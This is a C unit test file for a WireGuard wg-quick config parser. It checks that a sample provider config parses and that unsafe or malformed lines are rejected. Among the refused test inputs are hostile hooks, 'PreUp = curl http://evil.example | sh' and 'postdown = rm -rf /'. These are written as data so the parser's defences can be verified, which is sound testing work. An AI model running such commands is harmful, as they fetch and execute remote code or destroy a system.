/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "keys.h"
#include "macro.h"
#include "strv.h"
#include "wg-quick.h"

#define PRIV "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk="
#define PUB "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg="
#define PSK "FpCyhws9cxwWoV4xELtfJvjJN+zQVRPISllRWgeopVE="

/* As a VPN provider hands it out. */
static const char provider[] =
        "# exit in Amsterdam\n"
        "[Interface]\n"
        "PrivateKey = " PRIV "\n"
        "Address = 10.2.0.2/32, fd00:2::2/128\n"
        "DNS = 10.2.0.1\n"
        "MTU = 1420\n"
        "\n"
        "[Peer]\r\n"
        "PublicKey = " PUB "\n"
        "PresharedKey = " PSK "\n"
        "AllowedIPs = 0.0.0.0/0, ::/0\n"
        "Endpoint = nl-ams.vpn.example:51820\n"
        "PersistentKeepalive = 25 # keep NAT open\n";

static void test_provider_file(void **state) {
        WgQuickConfig c;
        char why[256] = "";
        WgKey k;

        assert_int_equal(wg_quick_parse(provider, &c, why, sizeof why), 0);
        assert_int_equal(key_from_base64(PRIV, k), 0);
        assert_memory_equal(c.private_key, k, WG_KEY_LEN);
        assert_int_equal(key_from_base64(PUB, k), 0);
        assert_memory_equal(c.peer_public_key, k, WG_KEY_LEN);
        assert_true(c.has_preshared_key);
        assert_int_equal(strv_length(c.addresses), 2);
        assert_string_equal(c.addresses[0], "10.2.0.2/32");
        assert_string_equal(c.dns[0], "10.2.0.1");
        assert_int_equal(c.mtu, 1420);
        assert_string_equal(c.endpoint, "nl-ams.vpn.example:51820");
        assert_int_equal(strv_length(c.allowed_ips), 2);
        assert_int_equal(c.persistent_keepalive, 25);
        wg_quick_done(&c);
}

/* provider with one line replaced (or added before [Peer] when old is NULL). */
static char *variant(const char *old, const char *new) {
        static char text[4096];
        const char *at = old ? strstr(provider, old) : strstr(provider, "[Peer]");
        assert_non_null(at);
        size_t skip = old ? strlen(old) : 0;
        snprintf(text, sizeof text, "%.*s%s%s", (int) (at - provider), provider, new, at + skip);
        return text;
}

static void test_refused(void **state) {
        static const struct {
                const char *old, *new, *words;
        } cases[] = {
                { NULL, "PostUp = iptables -A FORWARD -j ACCEPT\n", "PostUp is refused: runs a command" },
                { NULL, "PreUp = curl http://evil.example | sh\n", "PreUp is refused" },
                { NULL, "postdown = rm -rf /\n", "PostDown is refused" },
                { NULL, "Table = off\n", "Table is refused" },
                { NULL, "FwMark = 51820\n", "FwMark is refused" },
                { NULL, "SaveConfig = true\n", "SaveConfig is refused" },
                { NULL, "Hostname = x\n", "'Hostname' is not a key of [Interface]" },
                { NULL, "[Interface]\n", "a second [Interface]" },
                { "[Peer]\r\n", "[Peer]\n[Peer]\n", "a second [Peer]" },
                { "[Peer]\r\n", "[Peers]\n", "not a section" },
                { "PrivateKey = " PRIV "\n", "PrivateKey = not-a-key\n", "PrivateKey is not a WireGuard key" },
                { "PrivateKey = " PRIV "\n", "", "no PrivateKey" },
                { "PrivateKey = " PRIV "\n", "PrivateKey = " PRIV "\nPrivateKey = " PRIV "\n", "given twice" },
                { "Address = 10.2.0.2/32, fd00:2::2/128\n", "Address = fd00:2::2/128\n", "no IPv4 Address" },
                { "Address = 10.2.0.2/32, fd00:2::2/128\n", "Address = 10.2.0.300/32\n", "'10.2.0.300/32' is not" },
                { "Address = 10.2.0.2/32, fd00:2::2/128\n", "Address = 10.2.0.2/33\n", "is not an address" },
                { "Address = 10.2.0.2/32, fd00:2::2/128\n", "Address = 10.2.0.2/32,,\n", "an empty entry" },
                { "DNS = 10.2.0.1\n", "DNS = 10.2.0.1, vpn.example\n", "search domains are not used" },
                { "MTU = 1420\n", "MTU = 100\n", "from 576 to 9200" },
                { "MTU = 1420\n", "MTU = 0x500\n", "is not a number" },
                { "PublicKey = " PUB "\n", "", "no PublicKey" },
                { "PublicKey = " PUB "\n", "PublicKey = AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n", "weak key" },
                { "Endpoint = nl-ams.vpn.example:51820\n", "", "no Endpoint" },
                { "Endpoint = nl-ams.vpn.example:51820\n", "Endpoint = nl-ams.vpn.example\n", "is not host:port" },
                { "AllowedIPs = 0.0.0.0/0, ::/0\n", "AllowedIPs = 10.0.0.0/8\n", "must include 0.0.0.0/0" },
                { "AllowedIPs = 0.0.0.0/0, ::/0\n", "AllowedIPs = 0.0.0.0/1\n", "must include 0.0.0.0/0" },
                { "PersistentKeepalive = 25 # keep NAT open\n", "PersistentKeepalive = 70000\n", "from 0 to 65535" },
                { "# exit in Amsterdam\n", "Address = 10.9.0.2/32\n", "before any [Interface]" },
                { "# exit in Amsterdam\n", "# caf\xc3\xa9\n", "not printable ASCII" },
                { "# exit in Amsterdam\n", "nonsense\n", "not 'Key = value'" },
        };
        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                WgQuickConfig c = {};
                char why[256] = "";
                const char *text = variant(cases[i].old, cases[i].new);
                if (wg_quick_parse(text, &c, why, sizeof why) != -EINVAL)
                        fail_msg("case %zu (%s) was taken", i, cases[i].words);
                if (!strstr(why, cases[i].words))
                        fail_msg("case %zu: '%s' does not say '%s'", i, why, cases[i].words);
                /* a key's value is never echoed */
                assert_null(strstr(why, PRIV));
                assert_null(c.addresses);
        }
}

static void test_bounds(void **state) {
        WgQuickConfig c;
        char why[256];
        char *big = malloc(WG_QUICK_TEXT_MAX + 2);
        assert_non_null(big);
        memset(big, '#', WG_QUICK_TEXT_MAX + 1);
        big[WG_QUICK_TEXT_MAX + 1] = 0;
        assert_int_equal(wg_quick_parse(big, &c, why, sizeof why), -E2BIG);
        free(big);

        /* seventeen AllowedIPs entries are too many */
        char list[1024] = "AllowedIPs = 0.0.0.0/0";
        for (int i = 0; i < 16; i++)
                snprintf(list + strlen(list), sizeof list - strlen(list), ", 10.%d.0.0/16", i);
        strcat(list, "\n");
        assert_int_equal(wg_quick_parse(variant("AllowedIPs = 0.0.0.0/0, ::/0\n", list), &c, why, sizeof why), -EINVAL);
        assert_non_null(strstr(why, "more than 16"));
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_provider_file),
                cmocka_unit_test(test_refused),
                cmocka_unit_test(test_bounds),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
